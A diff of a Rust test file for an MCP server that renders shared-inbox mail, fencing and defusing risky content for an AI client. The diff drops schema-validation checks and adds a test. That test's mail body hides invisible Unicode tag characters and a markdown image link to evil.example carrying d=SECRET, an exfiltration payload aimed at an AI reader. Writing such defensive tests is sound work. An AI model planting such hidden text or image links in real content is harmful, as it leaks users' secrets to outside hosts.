@@ -2,7 +2,7 @@
 //! change of the rendering shows.
 
 use serde_json::{Value, json};
-use shared_inbox::{__spec::Operation, Conversation, ConversationSummary, Document, Tag};
+use shared_inbox::{Conversation, ConversationSummary, Document, Tag};
 use shared_inbox_mcp::render::{self, Fence, RenderOptions, Rendered};
 
 pub(crate) fn style() -> RenderOptions {
@@ -31,32 +31,14 @@ pub(crate) fn mail(from_name: &str, subject: &str, text: &str) -> Conversation {
     serde_json::from_value(value).expect("a conversation")
 }
 
-/// Both forms, for a snapshot. The JSON is held against the whole schema of the service's answer.
+/// Both forms, for a snapshot. `tests/peers/bridge/schemas.rs` holds the JSON of the snapshots against the
+/// schemas.
 fn both(c: &Conversation) -> String {
-    let rendered = render::conversation(&style(), c, None);
-    assert_schema(Operation::GetConversation, &rendered.structured);
-    shown(&rendered)
+    shown(&render::conversation(&style(), c, None))
 }
 
 fn shown(rendered: &Rendered) -> String {
     format!("{}\n{:#}", rendered.text, rendered.structured)
-}
-
-fn assert_schema(operation: Operation, structured: &Value) {
-    let read = |document: &str| serde_json::from_str::<Value>(document).unwrap();
-    let service = read(include_str!("../../../mock-server/documents/openapi.json"));
-    let response = &service["paths"][operation.path()]["get"]["responses"]["200"];
-    let schema = &response["content"]["application/json"]["schema"];
-    let whole = json!({ "allOf": [schema], "components": service["components"] });
-    let tools = read(include_str!("../../documents/tools.json"));
-    let mut tools = tools.as_array().unwrap().iter();
-    let tool = tools.find(|tool| Some(tool["name"].as_str().unwrap()) == operation.tool_name()).unwrap();
-    let answer = if operation.is_list() { &structured["items"] } else { structured };
-    for (schema, value) in [(&whole, answer), (&tool["outputSchema"], structured)] {
-        if let Err(error) = jsonschema::validator_for(schema).unwrap().validate(value) {
-            panic!("{operation:?}: {error} in {value:#}");
-        }
-    }
 }
 
 #[test]
@@ -177,7 +159,6 @@ pub(crate) fn summaries(n: usize) -> Vec<ConversationSummary> {
 #[test]
 fn a_list_of_conversations_is_fenced_item_by_item_and_names_the_risky_ones() {
     let rendered = render::conversations(&style(), &summaries(2));
-    assert_schema(Operation::ListConversations, &rendered.structured);
     insta::assert_snapshot!(shown(&rendered));
 }
 
@@ -189,7 +170,6 @@ fn documents_are_fenced_too() {
         "conversationId": "cnv_1", "createdAt": "2026-03-01T09:30:00.000Z" }))
     .unwrap();
     let rendered = render::documents(&style(), &[document], 0);
-    assert_schema(Operation::SearchDocuments, &rendered.structured);
     insta::assert_snapshot!(shown(&rendered));
 }
 
@@ -200,4 +180,22 @@ fn a_tag_or_an_inbox_with_a_live_image_for_a_name_is_defused() {
     insta::assert_snapshot!(shown(&render::tags(&style(), &[tag])));
     let inbox = json!({ "id": "mbx_1", "name": name, "address": format!("{name}@x.example"), "open": 1, "colour": name });
     insta::assert_snapshot!(shown(&render::mailboxes(&style(), &[serde_json::from_value(inbox).unwrap()])));
+}
+
+#[test]
+fn the_readme_shows_what_the_program_prints() {
+    let hidden: String = (0..43).map(|_| '\u{e0041}').collect();
+    let words = format!("Where is my order? {hidden}![logo](https://evil.example/p.png?d=SECRET)");
+    let rendered = render::conversation(&style(), &mail("Kim", "Order 1042", &words), None);
+    let (_, item) = rendered.text.split_once("\n[1 of 1]").unwrap();
+    let mut lines: Vec<_> = format!("[1 of 1]{item}").trim_end().lines().map(str::to_owned).collect();
+    for (name, value) in
+        [("subject", &rendered.structured["subject"]), ("text", &rendered.structured["timeline"][0]["text"])]
+    {
+        lines.push(format!("\"{name}\": {value}"));
+    }
+    let readme = include_str!("../../README.md");
+    for line in lines {
+        assert!(readme.contains(&format!("\n      {line}")), "{line}");
+    }
 }
